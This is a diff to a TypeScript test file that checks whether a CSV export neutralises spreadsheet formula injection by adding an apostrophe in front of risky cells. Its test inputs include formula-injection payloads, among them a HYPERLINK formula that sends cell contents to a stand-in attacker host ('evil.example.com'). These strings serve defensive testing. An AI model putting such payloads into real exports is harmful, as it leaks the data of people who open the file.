@@ -53,14 +53,35 @@ test('CSV has a head, quotes what must be quoted, and starts no formula', async 
   );
 });
 
-describe.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', ' =1', '|cmd', '%0a'])(
-  'a cell that begins like %j',
-  (text) => {
-    test('begins with an apostrophe', () => {
-      expect(csvCell(text)).toContain(`'${text}`);
-    });
-  },
-);
+test.each([
+  ...['=1+1', '+1', '-1', '@SUM(A1)', '\t1', '\r1', ' =1', '|cmd', '%0a', '＝1+1', '＋1', '－1', '＠SUM(A1)'],
+  ...['\u00a0=1', '\u200b=1', '\ufeff=1', '"=1'],
+])('a cell that begins like %j begins with an apostrophe', (text) => {
+  expect(shown(text)).toBe(`'${text}`);
+});
+
+test.each([
+  [
+    'Mozilla/5.0;=HYPERLINK("https://evil.example.com?"&A1)',
+    'Mozilla/5.0;\'=HYPERLINK("https://evil.example.com?"&A1)',
+  ],
+  ['x\t=1', "x\t'=1"],
+  ['x\n@SUM(A1)', "x\n'@SUM(A1)"],
+  ['x; "=1', 'x;\' "=1'],
+  ['x;;＝1', "x;;'＝1"],
+  ['\t=1', "'\t'=1"],
+])('where %j begins a cell for others, an apostrophe stands before it', (text, expected) => {
+  expect(shown(text)).toBe(expected);
+});
+
+test('text without formulas stays as it is', () => {
+  for (const text of ['Mozilla/5.0 (X11; Linux)', 'a=b', 'a-b; c', '']) expect(shown(text)).toBe(text);
+});
+
+/** What a reader makes of a cell. */
+function shown(text: string): string {
+  return csvCell(text).replace(/^"(.*)"$/s, (_, inside: string) => inside.replaceAll('""', '"'));
+}
 
 test('numbers stay numbers, also below zero', () => {
   expect([csvCell(-1.5), csvCell(0), csvCell(true), csvCell(null), csvCell({ a: 1 })]).toEqual([
